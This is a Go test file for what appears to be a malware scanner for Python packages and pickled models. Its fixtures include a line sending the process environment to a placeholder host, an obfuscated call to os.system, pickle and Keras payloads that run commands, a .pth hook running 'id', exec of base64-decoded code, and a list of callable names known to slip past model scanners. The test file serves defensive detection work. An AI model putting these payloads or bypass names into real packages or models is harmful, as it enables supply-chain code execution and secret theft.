package inspect

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/tools/txtar"

	"github.com/adderstone/adderstone/internal/finding"
)

// shapes reads a labelled set: each file of the archive is NAME/path, and files of one NAME are one package.
func shapes(t *testing.T, archive string) []*Package {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", archive))
	if err != nil {
		t.Fatal(err)
	}
	var packages []*Package
	for _, f := range txtar.Parse(data).Files {
		name, path, ok := strings.Cut(f.Name, "/")
		if !ok {
			t.Fatalf("%s: %s: a file is called NAME/path", archive, f.Name)
		}
		if n := len(packages); n == 0 || packages[n-1].Name != name {
			packages = append(packages, &Package{Name: name})
		}
		last := packages[len(packages)-1]
		last.Entries = append(last.Entries, Entry{Path: path, Data: f.Data, Size: int64(len(f.Data))})
	}
	return packages
}

// TestMaliciousShapesScoreHigh holds each set above its floor, and names the shapes that are missed.
func TestMaliciousShapesScoreHigh(t *testing.T) {
	for _, set := range []struct {
		archive string
		floor   int // percent
	}{
		{"malicious.txtar", 95},
		{"fresh_malicious.txtar", 98},
		{"second_malicious.txtar", 98},
		{"third_malicious.txtar", 98},
		{"fourth_malicious.txtar", 92},
		{"fifth_malicious.txtar", 95},
		{"sixth_malicious.txtar", 98},
		{"seventh_malicious.txtar", 98},
		{"eighth_malicious.txtar", 90},
		{"ninth_malicious.txtar", 98},
		{"tenth_malicious.txtar", 95},
		{"eleventh_malicious.txtar", 93},
		{"twelfth_malicious.txtar", 95},
		{"thirteenth_malicious.txtar", 95},
		{"fourteenth_malicious.txtar", 95},
		{"fifteenth_malicious.txtar", 95},
		{"sixteenth_malicious.txtar", 95},
		{"seventeenth_malicious.txtar", 85},
		{"eighteenth_malicious.txtar", 85},
		{"nineteenth_malicious.txtar", 85},
		{"twentieth_malicious.txtar", 95},
		{"twentyfirst_malicious.txtar", 95},
		{"twentysecond_malicious.txtar", 95},
		{"twentythird_malicious.txtar", 95},
		{"twentyfourth_malicious.txtar", 95},
		{"twentyfifth_malicious.txtar", 95},
	} {
		all := shapes(t, set.archive)
		missed := []string{}
		for _, p := range all {
			if r := Examine(p); r.Score() != finding.High {
				missed = append(missed, p.Name)
			}
		}
		t.Logf("%s: %d of %d found; missed: %v", set.archive, len(all)-len(missed), len(all), missed)
		if found := len(all) - len(missed); found*100 < set.floor*len(all) {
			t.Errorf("%s: %d of %d found; missed: %v", set.archive, found, len(all), missed)
		}
	}
}

func TestBenignShapesStayBelowHigh(t *testing.T) {
	for _, archive := range []string{"benign.txtar", "fresh_benign.txtar", "second_benign.txtar", "third_benign.txtar", "fourth_benign.txtar", "fifth_benign.txtar", "sixth_benign.txtar", "seventh_benign.txtar", "ninth_benign.txtar", "eleventh_benign.txtar", "twelfth_benign.txtar", "thirteenth_benign.txtar", "fourteenth_benign.txtar", "fifteenth_benign.txtar", "sixteenth_benign.txtar", "seventeenth_benign.txtar", "eighteenth_benign.txtar", "nineteenth_benign.txtar", "twentieth_benign.txtar", "twentyfirst_benign.txtar", "twentysecond_benign.txtar", "twentythird_benign.txtar", "twentyfourth_benign.txtar", "twentyfifth_benign.txtar"} {
		for _, p := range shapes(t, archive) {
			for _, f := range Examine(p).Findings {
				if f.Severity >= finding.High {
					t.Errorf("%s: %s: %s: %s", archive, p.Name, f.About.ID, f.Message)
				}
			}
		}
	}
}

func TestAskingForAVariableReadsNoEnvironment(t *testing.T) {
	for root, want := range map[string]int{
		"'https://shop.example.invalid' if 'SHOP_ROOT' not in os.environ else os.environ['SHOP_ROOT']": 0,
		"'https://shop.example.invalid/?' + str(os.environ)":                                           1,
	} {
		text := "import os\nimport requests\nROOT = " + root + "\nsession = requests.Session()\n\ndef orders(number):\n    url = f'{ROOT}/orders/{number}'\n    return session.get(url).json()\n"
		found := 0
		for _, f := range Examine(&Package{Name: "shop", Entries: []Entry{{Path: "shop/orders.py", Data: []byte(text), Size: int64(len(text))}}}).Findings {
			if f.About.ID == "malicious-theft" {
				found++
			}
		}
		if found != want {
			t.Errorf("%s: %d findings, want %d", root, found, want)
		}
	}
}

func TestChoosingAVerbHidesNoName(t *testing.T) {
	for call, want := range map[string]int{
		"getattr(aiohttp.ClientSession(), ('G' + 'ET').lower())(url)": 0,
		"getattr(os, 'sys' + 'tem')(url)":                             1,
	} {
		text := "import os\nimport aiohttp\n\ndef ask(url):\n    return " + call + "\n"
		found := 0
		for _, f := range Examine(&Package{Name: "shop", Entries: []Entry{{Path: "shop/ask.py", Data: []byte(text), Size: int64(len(text))}}}).Findings {
			if f.About.ID == "malicious-hidden-name" {
				found++
			}
		}
		if found != want {
			t.Errorf("%s: %d findings, want %d", call, found, want)
		}
	}
}

func TestCallsWithoutArgumentsAreRead(t *testing.T) {
	text := "import io, os, shutil, subprocess, tarfile, urllib.request, zipfile\nz = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen('https://shop.example.invalid/z').read()))\nz.extractall()\nz.extract()\nshutil.unpack_archive()\nshutil.copyfileobj()\nurllib.request.urlretrieve()\nsubprocess.run([])\nsubprocess.run()\nos.remove()\nsetattr()\n"
	if r := Examine(&Package{Name: "shop", Entries: []Entry{{Path: "shop/unpack.py", Data: []byte(text), Size: int64(len(text))}}}); len(r.Problems) > 0 {
		t.Errorf("%v", r.Problems)
	}
}

func TestPicklesAreReadNotLoaded(t *testing.T) {
	for _, test := range []struct {
		pickle string
		want   int
	}{
		{"cos\nsystem\n(S'echo hi'\ntR.", 1},
		{"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x07echo hi\x94\x85\x94R\x94.", 1},
		{"\x80\x02cbuiltins\neval\nq\x00X\x03\x00\x00\x001+1q\x01\x85q\x02Rq\x03.", 1},
		{"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01.", 0},
		{"\x80\x04cposix\nsystem\nX\x04\x00\x00\x00echo\x85R\xff", 1}, // cut off behind what it runs
		{"(cos\nsystem\nS'echo hi'\no.", 1},
		{"(S'echo hi'\nios\nsystem\n.", 1},
	} {
		found, problem := examineModel("m.pkl", []byte(test.pickle))
		if len(found) != test.want || problem != "" {
			t.Errorf("%q: %d findings, %q; want %d", test.pickle, len(found), problem, test.want)
		}
		if test.want > 0 {
			if found, _ := examineModel("zones.cache", []byte(test.pickle)); len(found) != test.want {
				t.Errorf("%q under another name: %d findings", test.pickle, len(found))
			}
		}
	}
}

func TestModelsThatArePackedAndLayers(t *testing.T) {
	var packed bytes.Buffer
	w := gzip.NewWriter(&packed)
	_, _ = w.Write([]byte("cos\nsystem\n(S'echo hi'\ntR."))
	_ = w.Close()
	for _, test := range []struct {
		name, data string
		want       int
	}{
		{"model.joblib", packed.String(), 1},
		{"model.joblib", packed.String()[:packed.Len()-8], 1}, // cut off behind what it runs
		{"frame.pkl.gz", packed.String(), 1},
		{"notes.txt.gz", packed.String(), 0},
		{"model.h5", "\x89HDF\r\n\x1a\n....{\"class_name\": \"Functional\", \"config\": {\"layers\": [{\"class_name\": \"Lambda\"}]}}", 1},
		{"model.h5", "\x89HDF\r\n\x1a\n....{\"module\": \"keras.layers\", \"class_name\": \"Dense\"}", 0},
		{"model.h5", "\x89HDF\r\n\x1a\n....{\"module\": \"subprocess\", \"class_name\": \"function\", \"config\": \"run\"}", 1},
	} {
		if found, problem := examineModel(test.name, []byte(test.data)); len(found) != test.want || problem != "" {
			t.Errorf("%s %.40q: %d findings, %q; want %d", test.name, test.data, len(found), problem, test.want)
		}
	}
}

// TestPicklesUnderOtherNamesAreReadWhole has one in a wheel, longer than what is looked at of files that nobody runs.
func TestPicklesUnderOtherNamesAreReadWhole(t *testing.T) {
	abs := filepath.Join(t.TempDir(), "a-1.0-py3-none-any.whl")
	file, err := os.Create(abs)
	if err != nil {
		t.Fatal(err)
	}
	z := zip.NewWriter(file)
	for name, text := range map[string]string{"a/zones.cache": "\x80\x04X\xe8\x03\x00\x00" + strings.Repeat("x", 1000) + "0cposix\nsystem\nX\x04\x00\x00\x00echo\x85R.", "a/notes.txt": "words"} {
		w, _ := z.Create(name)
		_, _ = w.Write([]byte(text))
	}
	if z.Close() != nil || file.Close() != nil {
		t.Fatal("cannot write")
	}
	p, err := Open("a-1.0-py3-none-any.whl", abs)
	if err != nil {
		t.Fatal(err)
	}
	if r := Examine(p); r.Score() != finding.High {
		t.Errorf("%v", r.Findings)
	}
}

// TestNamesInPickles has ways around lists of forbidden names, as published for scanners of models, beside what models really hold.
func TestNamesInPickles(t *testing.T) {
	for name, want := range map[string]bool{
		"idlelib.pyshell.ModifiedInterpreter.runcommand": true, "lib2to3.pgen2.pgen.ParserGenerator.make_label": true, "cProfile.runctx": true, "trace.Trace.runctx": true,
		"doctest.debug_script": true, "ensurepip._run_pip": true, "distutils.file_util.write_file": true, "logging.config.listen": true, "pydoc.pipepager": true,
		"_pyrepl.pager.pipe_pager": true, "_aix_support._read_cmd_output": true, "_osx_support._read_output": true, "imaplib.IMAP4_stream": true, "test.support.script_helper.assert_python_ok": true,
		"uuid._get_command_stdout": true, "venv.create": true, "zipimport.zipimporter": true, "code.InteractiveInterpreter.runcode": true, "linecache.getline": true, "ssl.get_server_certificate": true,
		"operator.methodcaller": true, "functools.partial": true, "__builtin__.eval": true, "types.CodeType": true, "ctypes.CDLL": true, "webbrowser.open": true, "asyncio.unix_events._UnixSubprocessTransport._start": true,
		"numpy.f2py.crackfortran.getlincoef": true, "torch.utils.collect_env.run": true, "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression": true, "torch._inductor.codecache.compile_file": true,
		"torch.utils.bottleneck.__main__.run_cprofile": true, "pandas.eval": true, "pip._internal.main": true,
		"collections.OrderedDict": false, "builtins.set": false, "_codecs.encode": false, "copyreg._reconstructor": false, "datetime.datetime": false, "numpy.core.multiarray._reconstruct": false,
		"numpy.dtype": false, "torch._utils._rebuild_tensor_v2": false, "torch.FloatStorage": false, "sklearn.linear_model._logistic.LogisticRegression": false, "pandas.core.frame.DataFrame": false,
		"pathlib.PosixPath": false, "argparse.Namespace": false, "joblib.numpy_pickle.NumpyArrayWrapper": false, "uuid.UUID": false, "types.SimpleNamespace": false,
	} {
		if got := isDangerous(name); got != want {
			t.Errorf("%s: %v, want %v", name, got, want)
		}
	}
}

func TestNewReleaseIsComparedWithOld(t *testing.T) {
	release := func(name, text string) *Report {
		return Examine(&Package{Name: name, Entries: []Entry{{Path: "shop/__init__.py", Data: []byte(text)}}})
	}
	older := release("shop-1", "import os\nprint(os.sep)\n")
	newer := release("shop-2", "import os\nos.system('echo hi')\n")
	if found := NewCapabilities(older, newer); len(found) != 1 || !strings.Contains(found[0].Message, "starts a process at import") {
		t.Errorf("%v", found)
	}
	if found := NewCapabilities(newer, newer); len(found) != 0 {
		t.Errorf("a release brings nothing new against itself: %v", found)
	}
}

func FuzzPickle(f *testing.F) {
	f.Add([]byte("\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94."))
	f.Fuzz(func(t *testing.T, data []byte) { examineModel("m.pkl", data) })
}

// FuzzArchive gives bytes to the readers of wheels and source distributions, and judges what comes out.
func FuzzArchive(f *testing.F) {
	f.Add([]byte("PK\x05\x06\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"))
	f.Add([]byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\x03\x00\x00\x00\x00\x00\x00\x00\x00\x00"))
	f.Fuzz(func(t *testing.T, content []byte) {
		for _, name := range []string{"a-1.0-py3-none-any.whl", "a-1.0.tar.gz", "a-1.0.zip", "a-1.0.tar.bz2", "a-1.0.tar", "a.py"} {
			abs := filepath.Join(t.TempDir(), name)
			if err := os.WriteFile(abs, content, 0o644); err != nil {
				t.Fatal(err)
			}
			if p, err := Open(name, abs); err == nil {
				Examine(p)
			}
		}
	})
}

// FuzzPackage judges a package whose metadata, start hooks and code are whatever they are.
func FuzzPackage(f *testing.F) {
	f.Add("a/__init__.py,sha256=x,1\na.pth,,\n", "import os; os.system('id')\n", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n")
	f.Add("\"a,b.py\",,\n..\\x,,\n", "/opt/x\n", "def _t(s): return _t(s)\n_t(_t('a'))\nHOW='x'*40\nraise E(HOW % 1)\n")
	f.Add("", "", "x = bytes(x)\ny = ''.join(map(chr, y))\ndef f(data):\n    data = bytes(data)\n    data = bytes(data)\n    exec(bytes(data).decode())\nexec(x + y)\n")
	f.Fuzz(func(t *testing.T, record, hook, code string) {
		p := &Package{Name: "a-1.0-py3-none-any.whl", Kind: Wheel}
		for path, text := range map[string]string{"a-1.0.dist-info/RECORD": record, "a.pth": hook, "a/__init__.py": code, "setup.py": code} {
			p.Entries = append(p.Entries, Entry{Path: path, Data: []byte(text), Size: int64(len(text))})
		}
		for _, problem := range Examine(p).Problems {
			if problem.Kind == finding.ProblemCrash {
				t.Error(problem.Message)
			}
		}
	})
}
